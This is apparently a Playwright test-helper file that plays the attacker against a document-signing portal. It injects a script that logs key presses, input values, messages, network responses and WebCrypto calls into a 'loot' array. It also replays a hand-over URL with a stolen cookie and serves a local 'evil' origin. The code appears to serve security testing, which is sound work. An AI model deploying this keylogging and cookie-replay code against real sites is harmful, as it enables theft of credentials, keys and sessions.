import { createServer, request as httpRequest } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'

/** What an injected script gets hold of. */
interface Loot {
  readonly seen: string[]
}

/**
 * Plays the attacker: a script in the portal's page that reads every key press, message, request and answer, every use of WebCrypto, of
 * message ports and of text fields, from the moment before the person presses “Sign”.
 */
export async function inject(page: Page): Promise<void> {
  await page.evaluate(() => {
    const seen: string[] = []
    Object.assign(window, { loot: { seen } })
    const keep = (...values: unknown[]): void => {
      for (const value of values) {
        if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) {
          const octets = new Uint8Array(value instanceof ArrayBuffer ? value : value.buffer)
          seen.push(new TextDecoder().decode(octets))
        } else {
          try {
            seen.push(typeof value === 'string' ? value : JSON.stringify(value))
          } catch {
            seen.push(String(value))
          }
        }
      }
    }
    for (const type of ['keydown', 'keyup', 'input', 'beforeinput', 'paste', 'change', 'message']) {
      const hear = (event: Event): void => {
        if (event instanceof KeyboardEvent) keep(type, event.key)
        if (event instanceof MessageEvent) keep(type, event.data)
        if (event instanceof InputEvent) keep(type, event.data)
        for (const target of event.composedPath()) {
          if (target instanceof HTMLInputElement) keep(target.value)
        }
      }
      window.addEventListener(type, hear, { capture: true })
    }
    const spy = (owner: object, name: string): void => {
      const real = Reflect.get(owner, name) as (...values: unknown[]) => unknown
      Reflect.set(owner, name, function (this: unknown, ...values: unknown[]) {
        keep(name, ...values)
        const result = real.apply(this, values)
        if (result instanceof Promise) {
          void result.then(
            (value: unknown) => {
              keep(value)
              if (value instanceof Response) void value.clone().text().then(keep, keep)
            },
            () => undefined,
          )
        }
        return result
      })
    }
    for (const name of ['fetch', 'postMessage', 'open', 'structuredClone']) spy(window, name)
    for (const name of ['sign', 'digest', 'importKey', 'decrypt', 'deriveBits', 'exportKey']) {
      spy(SubtleCrypto.prototype, name)
    }
    spy(MessagePort.prototype, 'postMessage')
    spy(Blob.prototype, 'arrayBuffer')
    spy(FileReader.prototype, 'readAsArrayBuffer')
    setInterval(() => {
      for (const field of document.querySelectorAll('input')) keep(field.value)
      for (const frame of document.querySelectorAll('iframe')) {
        try {
          keep(frame.contentDocument?.documentElement.outerHTML, frame.contentWindow?.location.href)
        } catch {
          // Another origin.
        }
      }
    }, 50)
  })
}

/** All of it, in one text. */
export const loot = (page: Page): Promise<string> =>
  page.evaluate(() => (window as unknown as { loot: Loot }).loot.seen.join('\n'))

/** Follows the hand-over as the person's browser would, outside of it: what a thief of the whole address would have. */
export function stolenAddress(handOver: string, cookie: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const asking = httpRequest(handOver, { headers: { cookie } }, (answer) => {
      answer.resume()
      resolve(answer.headers.location ?? '')
    })
    asking.on('error', reject).end()
  })
}

/** A site of somebody else, with nothing on its pages. */
export interface EvilSite {
  readonly origin: string
  close(): void
}

/** Serves it on this machine, at a port of its own. */
export async function serveEvilSite(): Promise<EvilSite> {
  const server = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html')
    response.end('<!doctype html><title>Prize</title><body></body>')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () => {
      server.closeAllConnections()
      server.close()
    },
  }
}
